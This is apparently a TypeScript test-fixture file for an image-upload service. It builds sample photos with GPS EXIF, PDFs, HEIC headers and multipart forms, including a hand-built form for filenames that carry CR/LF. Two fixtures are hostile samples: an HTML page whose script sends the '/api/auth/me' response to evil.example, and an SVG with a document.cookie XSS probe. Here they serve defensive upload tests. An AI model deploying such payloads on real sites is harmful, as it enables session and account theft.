import { readFileSync } from "node:fs";
import sharp from "sharp";

/**
 * Files for the upload tests, made here (sharp for the photos): a phone photo with GPS in its
 * EXIF, markup dressed up as photos, a PDF and the start of a HEIC; and one real HEIC photo,
 * made once with libheif's heif-enc (fixtures/README.md).
 */

/** The camera's make written into the fixture's EXIF: a stored photo must not contain it anywhere. */
export const CAMERA_MAKE = "UplinkTestCam";

/**
 * A JPEG as a phone stores it: 600 × 400 pixels with EXIF orientation 6 (shown turned 90°, so
 * upright it is 400 × 600), the camera's make and a GPS position.
 */
export function phoneJpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 600, height: 400, channels: 3, background: "#3366cc" } })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: CAMERA_MAKE },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1", GPSLongitudeRef: "W", GPSLongitude: "0/1 7/1 0/1" },
    })
    .jpeg()
    .toBuffer();
}

export function png(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 0, g: 160, b: 90, alpha: 1 } } })
    .png()
    .toBuffer();
}

/** The tags of IFD0 of an EXIF block ("Exif\0\0" and a TIFF header): 0x8825 points at the GPS IFD. */
export function exifTags(exif: Buffer): Set<number> {
  const tiff = exif.subarray(exif.subarray(0, 6).toString("latin1") === "Exif\0\0" ? 6 : 0);
  const little = tiff.subarray(0, 2).toString("latin1") === "II";
  const u16 = (offset: number) => (little ? tiff.readUInt16LE(offset) : tiff.readUInt16BE(offset));
  const u32 = (offset: number) => (little ? tiff.readUInt32LE(offset) : tiff.readUInt32BE(offset));
  const ifd = u32(4);
  const tags = new Set<number>();
  for (let i = 0; i < u16(ifd); i++) tags.add(u16(ifd + 2 + i * 12));
  return tags;
}
export const GPS_IFD_TAG = 0x8825;

export const HTML_PAGE = Buffer.from(
  "<!DOCTYPE html><html><body><script>fetch('/api/auth/me').then(r=>r.text()).then(t=>new Image().src='https://evil.example/?'+t)</script></body></html>",
);

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
);

export const SVG_PLAIN = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>',
);

/** A one-page PDF (enough of one for the magic bytes and a viewer). */
export const PDF = Buffer.from(
  "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
);

/**
 * A real HEIC photo (brand heic, HEVC), 160 × 96: the left half red, the right half blue-green at
 * the top, with EXIF holding the camera's make (CAMERA_MAKE) and a GPS position, as an iPhone's.
 */
export const HEIC_PHOTO = readFileSync(new URL("./fixtures/iphone-gps.heic", import.meta.url));

/** The EXIF of HEIC_PHOTO as libheif stored it (its TIFF header on), for exifTags. */
export const heicPhotoExif = (): Buffer => HEIC_PHOTO.subarray(HEIC_PHOTO.indexOf(Buffer.from("II*\0", "latin1")));

/** The first box of an iPhone HEIC (ftyp, brand heic) and some bytes: a HEIC header on no photo. */
export const HEIC = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from("ftypheic", "latin1"),
  Buffer.from([0, 0, 0, 0]),
  Buffer.from("mif1heic", "latin1"),
  Buffer.alloc(256, 7),
]);

/** A multipart form as a browser sends it: the file (with the client's claimed type) and other fields. */
export function uploadForm(
  bytes: Buffer,
  fileName: string,
  options: { type?: string; fields?: Record<string, string> } = {},
): FormData {
  const form = new FormData();
  form.append(
    "file",
    new Blob([new Uint8Array(bytes)], { type: options.type ?? "application/octet-stream" }),
    fileName,
  );
  for (const [name, value] of Object.entries(options.fields ?? {})) form.append(name, value);
  return form;
}

/**
 * A multipart body written by hand, for what a browser's FormData would escape: a file name sent
 * as RFC 5987 `filename*` (which may carry CR, LF and any other character once decoded).
 */
export function rawMultipart(file: { bytes: Buffer; disposition: string; type?: string }) {
  const boundary = "----uplink-test-boundary";
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; ${file.disposition}\r\nContent-Type: ${file.type ?? "application/octet-stream"}\r\n\r\n`,
    ),
    file.bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { "content-type": `multipart/form-data; boundary=${boundary}` } };
}
